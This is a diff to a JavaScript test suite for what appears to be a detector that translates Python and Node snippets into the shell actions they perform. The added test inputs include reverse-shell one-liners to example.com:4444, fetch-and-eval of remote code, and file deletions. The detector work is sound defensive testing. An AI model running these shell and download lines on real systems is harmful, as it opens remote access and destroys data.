@@ -345,12 +345,27 @@ describe("the network and what hides code", () => {
       "import socket,subprocess,os;s=socket.socket();s.connect(('example.com',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
       ...["nc example.com 4444 -e /bin/sh", "$ /bin/sh -i"],
     ],
+    [
+      "import socket,pty;s=socket.create_connection(('example.com',4444));pty.spawn('/bin/bash')",
+      ...["nc example.com 4444 -e /bin/bash", "$ /bin/bash"],
+    ],
+    [
+      "import socket,subprocess;s=socket.socket();s.connect(('example.com',80));subprocess.call(['sh','a.sh'])",
+      "$ sh a.sh",
+    ],
     ["exec(code)", "? unknown-code"],
     ["eval('os.remove(\"x\")')", "rm -f x"],
   ]);
   check("node", [
     [
       "eval(await (await fetch('https://example.com')).text())",
+      "curl https://example.com",
+      "curl https://example.com",
+      "node",
+      "? unknown-code",
+    ],
+    [
+      "fetch('https://example.com').then(r => r.text()).then(eval)",
       "curl https://example.com",
       "curl https://example.com",
       "node",
@@ -438,6 +453,9 @@ describe("the rest of the tables", () => {
     ["import importlib; importlib.import_module('shutil').rmtree('/d')", "rm -rf /d"],
     ["d = {'p': '/x'}; import os; os.remove(d['p'])", "rm -f /x"],
     ["import os; os.remove(['a', 'b'][1])", "rm -f b"],
+    ["import os; [os.remove(f) for f in ['/a']]", "rm -f /a"],
+    ["import os; print([len(f) for f in ['/a']], (x for x in y), [z for])"],
+    ["getattr(__import__('os'), 'system')('a b')", "$ a b"],
     ["x: str = '/a'; import os; os.remove(x)", "rm -f /a"],
     ["import pathlib; pathlib.Path('/a/b').parent.rmdir()", "rmdir /a"],
     ["import os; os.remove('a-b'.replace('-', '/'))", "rm -f a/b"],
@@ -457,6 +475,9 @@ describe("the rest of the tables", () => {
       "chmod 777 a",
     ],
     ["net.connect(4444, 'example.com')"],
+    ["(function () { var a = 1, fs = require('fs'); fs.rmSync('/x') })()", "rm -f /x"],
+    ["setTimeout(() => { const d = '/x'; require('fs').rmSync(d) }, 1)", "rm -f /x"],
+    ["import('fs').then(({ rmSync }) => rmSync('/x'))", "rm -f /x"],
     ["const o = { p: '/x' }; fs.unlinkSync(o.p)", "rm -f /x"],
     ["const { p } = { p: '/x' }; fs.unlinkSync(p)", "rm -f /x"],
     ["fs.unlinkSync(process.env.NOPE ?? '/fallback')", "rm -f ?"],
